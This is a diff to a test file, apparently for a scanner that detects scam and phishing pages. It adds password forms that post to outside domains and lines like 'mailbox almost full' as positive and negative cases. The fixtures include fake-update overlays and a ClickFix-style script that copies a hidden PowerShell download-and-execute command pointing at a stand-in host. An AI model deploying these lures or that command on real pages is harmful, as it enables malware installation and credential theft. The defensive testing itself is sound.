@@ -135,6 +135,7 @@ def test_who_moves_says_so_or_leaves_nothing_behind(html):
 
 COVER = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">{}</div>'
 WON = '<p>Congratulations! You have won a free phone.</p><a href="https://prize.test/">Claim</a>'
+FOREIGN_LOG_IN = '<p>{}</p><form action="https://mail.test/p"><input type="password" name="p"></form>'
 LOG_IN = '<form action="/login"><input type="password" name="p"></form>'
 COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden iwr https://c.test/a|iex')}</script>"
 
@@ -146,7 +147,8 @@ COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell
         COVER.format(WON),
         f"<style>.b{{position:fixed;z-index:9999;inset:0}}</style>{WON}",
         COVER.format('<h1>You are using an older version</h1><a href="https://up.test/Update.js">Update</a>'),
-        '<p>Your session has expired.</p><form action="https://mail.test/p"><input type="password" name="p"></form>',
+        FOREIGN_LOG_IN.format("Your session has expired."),
+        FOREIGN_LOG_IN.format("Your mailbox is almost full. Password expires in 24 hours."),
         f"<p>Verify you are human: press Windows + R</p>{COPIES}",
     ],
 )
@@ -161,6 +163,8 @@ def test_pretences_lie_in_wait_on_inner_pages_as_well(html):
         COVER.format("<p>You are using an old version of your browser. Please update it.</p>"),
         '<p>[!] The version is out of date, the latest is 1.9</p><a href="https://lab.test/machine.zip">Machine</a>',
         f"<p>Your session has expired.</p>{LOG_IN}",
+        FOREIGN_LOG_IN.format("Forgot your password? Your session will expire after 20 minutes."),
+        FOREIGN_LOG_IN.format("Call us if your account is locked. Passwords expire every 90 days. Account: full name"),
         f"<p>Install the tool from your shell.</p>{COPIES}",
         f"<p>Press Windows + R to open the Run dialog.</p>{COPIES.replace('c.test', 'get.school.test')}",
         "<p>Press Windows + R.</p><script>b.onclick=()=>navigator.clipboard.writeText(x);l=['powershell']</script>",
